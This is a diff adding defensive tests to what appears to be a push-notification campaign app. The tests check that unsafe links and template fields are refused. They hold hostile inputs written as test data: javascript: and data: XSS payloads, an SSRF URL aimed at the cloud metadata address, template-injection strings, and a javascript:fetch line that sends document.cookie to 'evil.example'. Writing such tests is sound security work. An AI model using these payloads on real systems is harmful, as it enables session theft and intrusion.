@@ -262,6 +262,9 @@ def test_bad_data_is_a_form_error(marketer_client, project, data_text):
     [
         ("image_url", "http://169.254.169.254/latest/meta-data/"),
         ("image_url", "javascript:alert(1)"),
+        ("link", "javascript:alert(document.cookie)"),
+        ("link", " Java\tScript:alert(1)"),
+        ("link", "data:text/html,<script>alert(1)</script>"),
         ("title", "{% for i in (1..10) %}"),
         ("title", "{{ secrets.key }}"),
         ("body", ""),
@@ -273,6 +276,28 @@ def test_bad_template_fields_are_form_errors(marketer_client, project, field, va
     assert response.status_code in (200, 422)
     assert response.context["form"].errors
     assert not PushTemplate.objects.exists()
+
+
+def test_a_link_that_renders_to_javascript_is_refused_at_send(project, ana):
+    from campaigns.services import SendRefused
+
+    template = PushTemplateFactory(project=project, link="{{ values.link }}")
+    DeviceFactory(subscriber=ana)
+    with pytest.raises(SendRefused, match="deep link"):
+        services.send_push(
+            project=project,
+            subscriber=ana,
+            template=template,
+            actor=Actor(label="t"),
+            values={"link": "javascript:fetch('//evil.example?'+document.cookie)"},
+        )
+    assert not Message.objects.exists()
+    # An app's own scheme and https links go out.
+    for link in ("myapp://orders/42", "https://shop.example/orders/42"):
+        services.send_push(
+            project=project, subscriber=ana, template=template, actor=Actor(label="t"), values={"link": link}
+        )
+    assert Message.objects.count() == 2
 
 
 def test_an_image_that_renders_to_http_is_refused_at_send(project, ana):
